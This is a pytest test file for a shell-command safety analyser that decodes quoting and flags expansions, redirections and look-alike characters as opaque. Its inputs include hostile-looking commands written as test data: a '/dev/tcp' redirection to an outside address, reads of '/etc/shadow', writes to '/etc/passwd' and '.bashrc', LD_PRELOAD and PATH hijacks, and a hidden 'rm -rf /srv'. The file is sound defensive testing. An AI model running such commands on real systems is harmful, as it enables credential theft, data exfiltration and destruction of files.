"""Words, redirections, rendering: the text of threats.md 4.3, each seen through or opaque, never misread."""

from __future__ import annotations

import pytest

from interlock.commands.shell import quoting

STATIC = {
    "r''m x": ("rm", "x"),
    'r"m" x': ("rm", "x"),
    "\\rm x": ("rm", "x"),
    "r\\m x": ("rm", "x"),
    "$'\\162\\u006d' x": ("rm", "x"),
    "rm x\\ y": ("rm", "x y"),
    "rm 'a'\"b\"c": ("rm", "abc"),
    'rm "\\$x \\` \\" \\\\ \\n"': ("rm", '$x ` " \\ \\n'),
    "rm $'a\\tb\\'c'": ("rm", "a\tb'c"),
    "rm a#b": ("rm", "a#b"),
    "rm é": ("rm", "é"),
    "rm {a a} }": ("rm", "{a", "a}", "}"),
    "rm a=b c~": ("rm", "a=b", "c~"),
    "rm '*' \\* \"[a]\"": ("rm", "*", "*", "[a]"),
    "rm a$": ("rm", "a$"),
    "rm -- -rf": ("rm", "--", "-rf"),
    "rm a \\\n b": ("rm", "a", "b"),
    "rm 'a\nb'": ("rm", "a\nb"),
    "/bin/rm x": ("/bin/rm", "x"),
}


@pytest.mark.parametrize("text", STATIC)
def test_static_words_are_decoded_exactly(analyse, text: str) -> None:
    analysis = analyse(text)
    assert analysis.opaque == ()
    assert {e.argv for e in analysis.effects} == {STATIC[text]}
    assert analysis.sent == " ".join(quoting.single_quoted(w) for w in STATIC[text])


DYNAMIC = {
    "rm $x": "parameter",
    "rm ${x:-y}": "parameter",
    'rm "${x}"': "parameter",
    "rm $(cat x)": "command-substitution",
    "rm `cat x`": "command-substitution",
    "rm $((1+1))": "arithmetic",
    "rm <(cat x)": "process-substitution",
    "rm *": "glob",
    "/b?n/r[m] x": "glob",
    "rm a?": "glob",
    "cat /etc/{a,shadow}": "brace-expansion",
    "rm a{1..3}": "brace-expansion",
    "rm {a,'b'}": "brace-expansion",
    "rm ~+": "tilde",
    "rm ~-/x": "tilde",
    "rm ~1": "tilde",
    "rm ~\\/x": "tilde",
    "rm ~''": "tilde",
    'rm ~""/x': "tilde",
    "rm ~/x*": "glob",
    "rm ~/{a,b}": "brace-expansion",
    "rm ~/x:~/y=~": "tilde",
    "rm ~/$x": "parameter",
    "x=~ ls": "tilde",
    "cat <<<~": "tilde",
    "HOME=/etc; cat ~/shadow": "assignment",
    "export HOME=/etc; cat ~/shadow": "declaration",
    "read HOME; cat ~/shadow": "assignment",
    "sudo cat ~/x": "tilde",
    "sudo sh -c 'cat ~/x'": "tilde",
    "docker exec w sh -c 'cat ~/x'": "tilde",
    "env HOME=/etc sh -c 'cat ~/shadow'": "assignment",
    "cat ~/x '~/x'": "tilde",
    "cat ~; cat '~/x'": "tilde",
    "find ~ -exec cat '~' ';'": "tilde",
    "~/ls": "unknown-program",
    "sh ~/x": "script-file",
    "cat ~root/x": "tilde",
    "rm a=~/x": "tilde",
    'rm $"x"': "locale-quoting",
    "rm $'\\xff'": "ansi-c-quoting",
    "rm $'\\cA'": "ansi-c-quoting",
    "echo !!": "history-expansion",
    "echo !rm": "history-expansion",
    "IFS=, ls": "assignment",
    "PATH=/tmp ls": "assignment",
    "x=1 ls": "assignment",
    "a[1]=x; ls": "assignment",
    "a=(x); ls": "assignment",
    "LD_PRELOAD=x ls": "assignment",
    "PROMPT_COMMAND=x ls": "assignment",
    "LC_ALL=$x ls": "parameter",
    "f() { rm x; }; f": "function-definition",
    "function f { rm x; }": "function-definition",
    "coproc rm x": "coprocess",
    "declare -n r=PATH": "declaration",
    "export PATH=/x": "declaration",
    "local x=1": "declaration",
    "readonly x": "declaration",
    "let x=1": "arithmetic",
    "(( x = 1 ))": "arithmetic",
    "[[ -f x ]]": "double-bracket",
    "for ((;;)); do ls; done": "loop",
    "select x in a; do ls; done": "unknown-construct",
    "for PATH in a; do ls; done": "assignment",
    "case x in a*) ls;; esac": "glob",
    "case x in a) ls;& b) rm x;; esac": "unknown-construct",
    "ls > $x": "redirection-parameter",
    "ls < $(rm x)": "redirection-command-substitution",
    "ls {fd}>x": "redirection",
    "ls 12>x": "redirection",
    "ls > /dev/tcp/1.2.3.4/5": "network-redirection",
    "ls —la": "look-alike",
    "ls -é": "look-alike",
    "lś": "look-alike",
    "cat <<E\n$x\nE": "here-document",
    "ls | time cat": "unknown-construct",  # a program there, not the keyword
    "ls |& time -p cat | sort": "unknown-construct",
}


@pytest.mark.parametrize("text", DYNAMIC)
def test_what_expands_or_changes_the_shell_is_opaque(analyse, text: str) -> None:
    analysis = analyse(text)
    assert analysis.unreadable is None
    assert DYNAMIC[text] in {o.reason for o in analysis.opaque}, analysis.opaque
    assert analysis.sent is None
    for opaque in analysis.opaque:
        assert 0 <= opaque.start <= opaque.end <= len(text.encode())


@pytest.mark.parametrize(
    "text", ["case x in x) ls 'x'#c && rm y\n;; esac", '( ls "a"#c && rm y\n)', "case x in x) ls 'x'#c ;; esac"]
)
def test_a_word_is_never_cut_by_what_one_grammar_takes_for_a_comment(analyse, text: str) -> None:
    assert not analyse(text).static


def test_comments_are_read(analyse) -> None:
    for text in ("ls # c", "ls;#c", "case x in x) ls 'x' #c\n;; esac", "(ls)#c", "#c\nls", "ls 'a'#c", "ls &#c"):
        assert analyse(text).static, text
    assert not analyse("ls >&\\'").static


RENDERED = {
    "ls -la # ; rm -rf /srv": "'ls' '-la'",
    "cd /srv/app && ls -la": "'cd' '/srv/app' && 'ls' '-la'",
    "ls|cat|&tee x": "'ls' | 'cat' 2>&1 | 'tee' 'x'",
    "! ls | cat": "! 'ls' | 'cat'",
    "tail -f x &": "'tail' '-f' 'x' &",
    "ls & cat x": "'ls' &\n'cat' 'x'",
    "ls; cat x\nuptime": "'ls'\n'cat' 'x'\n'uptime'",
    "LC_ALL=C sort f": "LC_ALL='C' 'sort' 'f'",
    "ls >a 2>>b <c 2>&1 >|d": "'ls' >'a' 2>>'b' <'c' 2>&1 >|'d'",
    "ls &>a": "'ls' >'a' 2>&1",
    "ls >&2 1>a 0<b": "'ls' >&2 >'a' <'b'",
    "{ ls; cat x; } >a": "{ 'ls'; 'cat' 'x'; } >'a'",
    "( ls; ) 2>/dev/null": "( 'ls'; ) 2>'/dev/null'",
    "if ls; then cat x; elif rm y; then :; else uptime; fi":
        "if 'ls'; then 'cat' 'x'; elif 'rm' 'y'; then ':'; else 'uptime'; fi",
    "for i in 1 2; do uptime; done": "for i in '1' '2'; do 'uptime'; done",
    "while true; do uptime; sleep 1; done": "while 'true'; do 'uptime'; 'sleep' '1'; done",
    "case x in a|*) ls;; esac": "case 'x' in ( 'a' | * ) 'ls'; ;; esac",
    "cat <<'E' | sort\n$(rm x)\nE": "'cat' <<'INTERLOCK_END' |\n$(rm x)\nINTERLOCK_END\n'sort'\n".rstrip("\n") + "",
    "cat <<-E\n\ta\n\tE": "'cat' <<'INTERLOCK_END'\na\nINTERLOCK_END\n",
    "cat <<< 'INTERLOCK_END'": "'cat' <<'INTERLOCK_END_'\nINTERLOCK_END\nINTERLOCK_END_\n",
    "sh -c 'ls | cat'": "'sh' '-c' ''\\''ls'\\'' | '\\''cat'\\'''",
    "echo \"it's\"": "'echo' 'it'\\''s'",
    "time ls": "time 'ls'",
}  # fmt: skip


@pytest.mark.parametrize("text", RENDERED)
def test_what_is_sent(analyse, text: str) -> None:
    analysis = analyse(text)
    assert analysis.opaque == ()
    assert analysis.sent is not None
    assert analysis.sent.rstrip("\n") == RENDERED[text].rstrip("\n")


def test_what_is_sent_reads_back_as_itself(analyse) -> None:
    for text in RENDERED:
        sent = analyse(text).sent
        assert sent is not None
        again = analyse(sent)
        assert again.sent == sent
        assert [(e.verb, e.object) for e in again.effects] == [(e.verb, e.object) for e in analyse(text).effects]


@pytest.mark.parametrize("value", ["", "a", "it's", "''", "a\nb", "$x `y` \\", "é", "'" * 50])
def test_single_quotes_round_trip(analyse, value: str) -> None:
    assert analyse(f"echo {quoting.single_quoted(value)}").effects[0].argv == ("echo", value)


def test_redirections_are_effects_of_their_own(analyse) -> None:
    def effects(text: str) -> set[tuple[str, str, str]]:
        return {(e.verb, e.object, e.detail) for e in analyse(text).effects}

    assert effects("> /etc/passwd") == {("write", "/etc/passwd", ""), ("identity", "/etc/passwd", "accounts")}
    assert effects("> /etc/motd") == {("write", "/etc/motd", "system")}
    assert ("write", ".bashrc", "append") in effects("echo x >> .bashrc")
    assert ("interpret", ".bashrc", "start-up") in effects("echo x >> .bashrc")
    assert ("secret", "/etc/shadow", "") in effects("cat < /etc/shadow")
    assert effects("uptime > /dev/null 2>&1") == {("read", "system", "")}
    assert ("write", "/tmp/x", "") in effects("{ uptime; } > /tmp/x")
    assert {("read", "/tmp/x", ""), ("write", "/tmp/x", "")} <= effects("uptime <> /tmp/x")


def test_large_texts_are_for_a_human_only(analyse) -> None:
    analysis = analyse("echo " + "a" * 17_000)
    assert [o.reason for o in analysis.opaque] == ["too-large-to-classify"]
    assert analysis.sent is None


@pytest.mark.parametrize(
    ("raw", "value"),
    [
        ("a\\nb", "a\nb"),
        ("\\101", "A"),
        ("\\x41\\u00e9\\U0001F600", "Aé😀"),
        ("\\'\\\"\\\\", "'\"\\"),
        ("\\e", "\x1b"),
        ("x\\0", None),
        ("\\377", None),
        ("\\ud800", None),
        ("\\q", None),
    ],
)
def test_ansi_c_quoting(raw: str, value: str | None) -> None:
    assert quoting.ansi_c(raw) == value
